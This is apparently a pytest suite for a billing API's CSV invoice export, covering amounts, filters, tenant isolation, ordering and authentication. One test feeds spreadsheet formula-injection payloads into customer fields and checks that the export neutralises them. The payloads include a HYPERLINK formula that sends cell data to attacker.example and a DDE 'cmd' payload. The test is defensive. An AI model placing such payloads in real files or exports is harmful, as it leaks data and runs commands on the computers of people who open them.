import csv
import io

import pytest

from ar.models import InvoiceStatus
from ar.tests.factories import CustomerFactory, InvoiceFactory, InvoiceLineFactory
from billing.api.tests.support import api_client

pytestmark = pytest.mark.django_db(databases="__all__")

URL = "/api/v1/invoices/export.csv"


def export(client, params=None, **headers):
    response = client.get(URL, params or {}, **headers)
    return response, b"".join(response.streaming_content).decode() if response.streaming else ""


def rows_of(body: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body)))


class TestInvoiceExport:
    def test_streams_rows_in_major_units(self):
        client = api_client()
        customer = CustomerFactory(name="Ada Lovelace", email="ada@example.com", external_id="cus-ada")
        invoice = InvoiceFactory(customer=customer, number="ACME-000001", subtotal_minor=2985, amount_paid_minor=985)
        InvoiceLineFactory(invoice=invoice, position=1, description="Pro plan")
        InvoiceLineFactory(invoice=invoice, position=2, description="Extra seat")

        response, body = export(client)

        assert response.status_code == 200
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="invoices-acme-')
        assert body.startswith('"invoice_id","number","status",')
        [row] = rows_of(body)
        assert row["invoice_id"] == str(invoice.id)
        assert row["number"] == "ACME-000001"
        assert row["customer_name"] == "Ada Lovelace"
        assert row["customer_external_id"] == "cus-ada"
        assert row["currency"] == "USD"
        assert row["total"] == "29.85"
        assert row["amount_paid"] == "9.85"
        assert row["amount_due"] == "20.00"
        assert row["issued_on"] == "2026-03-01"
        assert row["finalized_at"] == "2026-03-01T09:30:00+00:00"
        assert row["paid_at"] == ""
        assert row["line_items"] == "Pro plan; Extra seat"

    def test_amounts_use_currency_precision(self):
        client = api_client()
        customer = CustomerFactory(currency="JPY")
        InvoiceFactory(customer=customer, currency="JPY", subtotal_minor=1500)

        [row] = rows_of(export(client)[1])

        assert row["total"] == "1500"

    def test_formula_cells_are_neutralised(self):
        client = api_client()
        hyperlink = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
        customer = CustomerFactory(name=hyperlink, email="@SUM(1)@example.com", external_id="+cmd|' /C calc'!A0")
        invoice = InvoiceFactory(customer=customer)
        InvoiceLineFactory(invoice=invoice, description="-2+3")
        tab_customer = CustomerFactory(name="\t=1+1", external_id="\r=1+1")
        InvoiceFactory(customer=tab_customer)

        _, body = export(client)
        rows = {row["invoice_id"]: row for row in rows_of(body)}

        row = rows[str(invoice.id)]
        assert row["customer_name"] == "'" + hyperlink
        assert row["customer_email"] == "'@SUM(1)@example.com"
        assert row["customer_external_id"] == "'+cmd|' /C calc'!A0"
        assert row["line_items"] == "'-2+3"
        tab_row = next(row for row in rows.values() if row["invoice_id"] != str(invoice.id))
        assert tab_row["customer_name"] == "'\t=1+1"
        assert tab_row["customer_external_id"] == "'\r=1+1"
        # Every text cell is quoted; the amounts are bare numbers.
        assert f'"\'{hyperlink.replace(chr(34), chr(34) * 2)}"' in body
        assert ',29.85,' in body

    def test_other_tenants_invoices_are_left_out(self):
        own = InvoiceFactory()
        InvoiceFactory(customer=CustomerFactory(tenant_id="globex"))

        rows = rows_of(export(api_client())[1])

        assert [row["invoice_id"] for row in rows] == [str(own.id)]

    def test_filters_match_the_invoice_list(self):
        client = api_client()
        customer = CustomerFactory()
        open_march = InvoiceFactory(customer=customer, issued_on="2026-03-01")
        InvoiceFactory(customer=customer, status=InvoiceStatus.PAID, issued_on="2026-03-02")
        february = InvoiceFactory(issued_on="2026-02-01")

        by_status = rows_of(export(client, {"status": "open", "customer": str(customer.id)})[1])
        by_dates = rows_of(export(client, {"issued_from": "2026-02-01", "issued_to": "2026-02-28"})[1])

        assert [row["invoice_id"] for row in by_status] == [str(open_march.id)]
        assert [row["invoice_id"] for row in by_dates] == [str(february.id)]

    def test_rows_ordered_by_issue_date(self):
        client = api_client()
        draft = InvoiceFactory(status=InvoiceStatus.DRAFT, number=None, issued_on=None, finalized_at=None)
        later = InvoiceFactory(issued_on="2026-03-05")
        earlier = InvoiceFactory(issued_on="2026-03-01")

        rows = rows_of(export(client)[1])

        assert [row["invoice_id"] for row in rows] == [str(earlier.id), str(later.id), str(draft.id)]
        assert rows[2]["number"] == ""
        assert rows[2]["issued_on"] == ""

    def test_no_invoices_gives_header_only(self):
        _, body = export(api_client())

        assert body.count("\r\n") == 1
        assert rows_of(body) == []

    def test_invalid_filter_values_rejected(self):
        response = api_client().get(
            URL, {"status": "lost", "issued_from": "2026-13-01", "customer": "nobody"}, HTTP_ACCEPT="text/csv"
        )

        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        error = response.json()["error"]
        assert error["code"] == "invalid_request"
        assert set(error["fields"]) == {"status", "issued_from", "customer"}
        assert "lost" in error["fields"]["status"][0]

    def test_accept_text_csv_is_served(self):
        InvoiceFactory()

        response, body = export(api_client(), HTTP_ACCEPT="text/csv")

        assert response.status_code == 200
        assert len(rows_of(body)) == 1

    def test_key_is_required(self):
        from rest_framework.test import APIClient

        response = APIClient().get(URL)

        assert response.status_code == 401
        assert response.json()["error"]["code"] == "not_authenticated"

    def test_schema_documents_csv_and_filters(self):
        from rest_framework.test import APIClient

        schema = APIClient().get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
        operation = schema["paths"][URL]["get"]

        assert list(operation["responses"]["200"]["content"]) == ["text/csv"]
        assert "400" in operation["responses"]
        assert {parameter["name"] for parameter in operation["parameters"]} == {
            "status", "customer", "issued_from", "issued_to",
        }
